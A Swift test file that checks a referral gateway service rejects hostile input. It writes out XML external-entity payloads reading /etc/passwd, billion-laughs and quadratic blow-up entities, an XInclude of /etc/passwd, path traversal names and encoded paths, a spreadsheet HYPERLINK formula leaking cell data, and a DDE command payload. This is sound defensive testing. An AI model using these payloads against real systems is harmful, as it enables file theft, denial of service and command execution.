import Formats
import FoundationEssentials
import HTTP
import ServiceKit
import Synchronization
import TestSupport
import Testing

@testable import ReferralGateway

/// The attacks on whoever reads XML, each by its name, put into a notice in which nothing else is wrong.
enum HostileNotice: String, CaseIterable {
    case externalFile
    case externalFileThroughParameterEntity
    case externalDocumentType
    case billionLaughs
    case quadraticBlowUp
    case undeclaredEntity

    /// The notice; what is to be fetched from outside is at `address`.
    func bytes(_ address: String) -> [UInt8] {
        let reference = self == .quadraticBlowUp ? String(repeating: "&x;", count: 50_000) : "&x;"
        let notice = Gateway.notice(rawValue).write().replacing("Hussain", with: reference)
        guard let type = documentType(address) else { return notice }
        return notice.replacing("?>", with: "?><!DOCTYPE Bundle \(type)>")
    }

    private func documentType(_ address: String) -> String? {
        switch self {
        case .externalFile: #"[<!ENTITY x SYSTEM "file:///etc/passwd">]"#
        case .externalFileThroughParameterEntity:
            #"[<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "\#(address)/x.dtd">%d;]"#
        case .externalDocumentType: #"SYSTEM "\#(address)/x.dtd""#
        case .billionLaughs: "[\(Self.laughs)]"
        case .quadraticBlowUp: #"[<!ENTITY x "\#(String(repeating: "ha", count: 50_000))">]"#
        case .undeclaredEntity: nil
        }
    }

    private static let laughs =
        #"<!ENTITY l0 "ha">"#
        + (1...10).map { #"<!ENTITY l\#($0) "\#(String(repeating: "&l\($0 - 1);", count: 10))">"# }.joined()
        + #"<!ENTITY x "&l10;">"#
}

/// Where a notice would have something fetched from: counts who came.
private final class Outside: Middleware {
    let requests = Atomic(0)

    func respond(to request: Request, next: Responder) async throws -> Response {
        requests.add(1, ordering: .relaxed)
        return .text("<!ENTITY x \"fetched\">")
    }
}

@Suite("Hostile notices over HTTP", .serialized)
struct HostileNoticeTests {
    @Test(
        "each attack on XML is refused with where and why, nothing is fetched, and a good notice goes through after it")
    func attacksOnXML() async throws {
        try await Caller.serving { gateway, caller in
            let token = try gateway.partner.token()
            let outside = Outside()
            var router = Router()
            router.add(outside)
            let server = try HTTPServer(HTTPServerConfiguration(), router: router)
            async let serving: Void = server.run()
            for attack in HostileNotice.allCases {
                let refused = try await caller.post(token, attack.bytes("http://127.0.0.1:\(server.port)"))
                #expect(refused.status == 422, "\(attack)")
                let errors = try refused.json(ProblemJSON.self).errors ?? []
                #expect(errors.count == 1 && errors.allSatisfy { $0.place.hasPrefix("line ") }, "\(attack): \(errors)")
                if attack != .undeclaredEntity {
                    #expect(errors.first?.detail.contains("a DOCTYPE is not allowed") == true, "\(attack): \(errors)")
                }
                #expect(!refused.text.contains("root:"), "\(attack)")
            }
            #expect(outside.requests.load(ordering: .relaxed) == 0)
            _ = try await caller.ask(.get, "/x.dtd", token: nil, at: "http://127.0.0.1:\(server.port)")
            #expect(outside.requests.load(ordering: .relaxed) == 1, "who had fetched it would have been seen")
            await server.stop()
            try await serving
            #expect(try await caller.post(token, Gateway.notice("good").write()).status == 201)
        }
    }

    @Test("a file that a notice wants included is not read")
    func inclusion() async throws {
        try await Caller.serving { gateway, caller in
            let include =
                #"<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>"#
            let notice = Gateway.notice().write().replacing("</entry>", with: include + "</entry>")
            let answer = try await caller.post(try gateway.partner.token(), notice)
            #expect([201, 422].contains(answer.status))
            #expect(!answer.text.contains("root:"))
            let stored = try await gateway.service.everything().values.joined().joined(separator: "\n")
            #expect(!stored.contains("root:") && !gateway.service.plainText(of: stored).contains("root:"))
        }
    }

    @Test("a name that climbs out of a folder is a name and nothing else, in a message and in a path")
    func climbingNames() async throws {
        try await Caller.serving { gateway, caller in
            let token = try gateway.partner.token()
            let target = "\(gateway.service.folder)/climbed"
            let up = String(repeating: "../", count: 24)
            for name in ["\(up)\(target.dropFirst())", target, "file://\(target)", #"..\..\..\climbed"#] {
                var notice = Gateway.notice(name)
                notice.bundleID = name
                notice.messageID = name
                #expect([201, 422].contains(try await caller.post(token, notice.write()).status), "\(name)")
            }
            #expect(!FileManager.default.fileExists(atPath: target))
            #expect(try FileManager.default.contentsOfDirectory(atPath: ".").allSatisfy { !$0.contains("climbed") })
            for path in ["/submissions/..%2f..%2f..%2fetc%2fpasswd", "/submissions/%2e%2e/%2e%2e/etc/passwd"] {
                let answer = try await caller.ask(.get, path, token: try gateway.team.token(), type: nil)
                #expect([400, 404].contains(answer.status) && !answer.text.contains("root:"), "\(path)")
            }
        }
    }

    @Test("what a spreadsheet would take for a formula in a sender's words comes out of CSV as text")
    func formulas() async throws {
        try await Gateway.with { gateway in
            var notice = Gateway.notice()
            notice.patient.familyName = ""
            notice.messageID = #"=HYPERLINK("http://example.org?"&A1,"x")"#
            let file = try gateway.service.file("notice.xml", notice.write())
            let sender = "=cmd|' /C calc'!A0"
            let sent = try await gateway.service.run(["submit", file, "--sender", sender], as: gateway.team)
            #expect(sent.exitCode == .badInput, "\(sent.messages)")
            let list = try await gateway.service.run(["quarantine", "list"], as: gateway.team, format: .csv)
            #expect(list.output.contains(",'\(sender),"), "\(list.output)")
            let fields = list.output.split(separator: "\r\n").dropFirst().flatMap { $0.split(separator: ",") }
            #expect(fields.count > 3)
            #expect(fields.allSatisfy { !$0.hasPrefix("=") && !$0.hasPrefix("\"=") }, "\(list.output)")
        }
    }
}
